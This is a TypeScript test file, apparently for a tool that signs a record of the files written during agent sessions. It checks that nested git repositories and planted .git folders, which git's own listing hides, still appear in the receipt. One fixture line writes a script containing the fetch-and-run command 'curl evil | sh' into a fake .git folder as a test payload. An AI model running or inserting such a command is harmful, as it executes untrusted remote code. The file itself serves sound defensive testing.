/**
 * Reconciliation of repositories nested in the tree. git does not look into a folder that holds a
 * repository of its own, and never lists a `.git`: an agent that makes a folder a repository in one
 * session would have hidden that folder's files from every later one. Now the `.git` that appears
 * is a row, and a repository already nested at the start is listed like the tree at both ends.
 * Oracles: what the test wrote, and git's own listing (which shows none of it).
 */
import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { RECENT_MS } from '../../src/capture/reconcile/stat.js';
import { toPublicKey } from '../../src/core/keys.js';
import { verifyPackage } from '../../src/evidence/package/verify.js';
import { closeSession, startSession } from '../../src/session/lifecycle.js';
import { readSessionInfo } from '../../src/session/store.js';
import { type Fixture, git, makeFixture, packageReceipt } from './fixture.js';

/** One session around `act`: the receipt's rows, and the package verified. */
async function session(fx: Fixture, act: () => void): Promise<[string, string][]> {
  const { info } = await startSession({ state: fx.state, root: fx.root, signer: fx.signer });
  act();
  const closed = await closeSession({
    state: fx.state,
    session: readSessionInfo(fx.state, info.id),
    signer: fx.signer,
  });
  const pkg = readFileSync(closed.packagePath);
  const verified = await verifyPackage(pkg, {
    trusted: [toPublicKey(fx.signer.privateKey)],
    now: new Date(),
  });
  assert.equal(verified.ok, true, JSON.stringify(verified.checks.filter((c) => !c.ok)));
  return packageReceipt(pkg).files_written.map((row) => [row.path, row.operation]);
}

describe('reconciliation of repositories nested in the tree', () => {
  it('a folder made a repository in one session: its .git is a row, and later sessions still see its files', async () => {
    const fx = await makeFixture('tally-nested-sessions-');
    const r = fx.root;
    mkdirSync(join(r, 'docs'));
    writeFileSync(join(r, 'docs', 'guide.md'), 'guide\n');
    git(r, 'add', '.');
    git(r, 'commit', '-qm', 'docs');
    const first = await session(fx, () => {
      // An empty repository; a tracked folder made one; a .git git does not take for a repository,
      // alone in its folder (holding a payload); a .git file beside a tracked file.
      mkdirSync(join(r, 'lib'));
      git(join(r, 'lib'), 'init', '-q');
      git(join(r, 'src'), 'init', '-q');
      mkdirSync(join(r, 'tools', '.git'), { recursive: true });
      writeFileSync(join(r, 'tools', '.git', 'run.sh'), 'curl evil | sh\n');
      writeFileSync(join(r, 'docs', '.git'), 'gitdir: /nowhere\n');
    });
    // git itself shows none of it.
    assert.equal(git(r, 'status', '--porcelain', '--untracked-files=all'), '?? lib/\n');
    assert.deepEqual(first, [
      ['docs/.git', 'created'],
      ['lib/.git', 'created'],
      ['src/.git', 'created'],
      ['tools/.git', 'created'],
    ]);
    await sleep(RECENT_MS + 200); // the start's stats vouch for the files, as in a tree not written just now
    const second = await session(fx, () => {
      writeFileSync(join(r, 'lib', 'evil.js'), 'evil\n');
      writeFileSync(join(r, 'src', 'app.js'), 'export const v = 2;\n');
      writeFileSync(join(r, 'src', 'new.js'), 'new\n');
      mkdirSync(join(r, 'lib', 'deep'));
      writeFileSync(join(r, 'lib', 'deep', 'more.js'), 'more\n');
    });
    assert.deepEqual(second, [
      ['lib/deep/more.js', 'created'],
      ['lib/evil.js', 'created'],
      ['src/app.js', 'modified'],
      ['src/new.js', 'created'],
    ]);
    // A repository nested in a nested one, made before a session: listed too.
    git(join(r, 'lib', 'deep'), 'init', '-q');
    await sleep(RECENT_MS + 200);
    const third = await session(fx, () => {
      writeFileSync(join(r, 'lib', 'deep', 'more.js'), 'changed\n');
      writeFileSync(join(r, 'lib', 'deep', 'other.js'), 'other\n');
    });
    assert.deepEqual(third, [
      ['lib/deep/more.js', 'modified'],
      ['lib/deep/other.js', 'created'],
    ]);
  });
});
